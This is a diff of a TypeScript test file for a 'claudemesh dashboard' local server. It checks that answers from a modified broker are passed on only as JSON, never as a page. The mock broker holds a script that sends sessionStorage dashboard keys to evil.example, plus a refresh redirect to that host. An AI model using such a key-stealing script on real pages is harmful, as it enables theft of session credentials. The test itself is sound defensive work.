@@ -8,7 +8,6 @@ import { describe, expect, test } from "bun:test";
 import { cli, cliTeam, dashboardOnce, dashboardServing } from "../helpers/cli.ts";
 import { parseDashboardFragment } from "../../src/client/dashboard-link.ts";
 import { PAGE_KEY_HEADER } from "../../src/protocol/dashboard-keys.ts";
-import { loadConfig, saveConfig } from "../../src/client/local/config-file.ts";
 import { startLocalDashboard } from "../../src/cli/dashboard-server.ts";
 
 /** Logs in through the served page's origin with its link; returns the Set-Cookie it got and the
@@ -113,8 +112,6 @@ describe("the page served by claudemesh dashboard", () => {
   }, 60_000);
 
   test("a broker under a path prefix: its answers are passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
-    await using team = await cliTeam(["alice"]);
-    const { dirs: [alice] } = team;
     // A modified broker (behind a reverse proxy, under a path): a page, which would run next to
     // the keys, and headers of its own.
     await using evil = Bun.serve({
@@ -131,9 +128,11 @@ describe("the page served by claudemesh dashboard", () => {
             ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
             : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
     });
-    const cfg = loadConfig(alice);
-    saveConfig(alice, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: `${evil.url.origin}/mesh` })) });
-    await using served = await dashboardServing(alice);
+    // The local server alone: the command would first need a member hello, which this one does not
+    // answer (a modified broker could).
+    const local = startLocalDashboard(`${evil.url.origin}/mesh`);
+    await using _stop = { [Symbol.asyncDispose]: () => local.stop() };
+    const served = { json: { local: `${local.base}/` } };
     const page = await fetch(`${served.json.local}v1/dashboard/session`);
     expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with 200 text/html, not the dashboard's JSON")]);
     // A list of types (browsers take the last) is not JSON either.
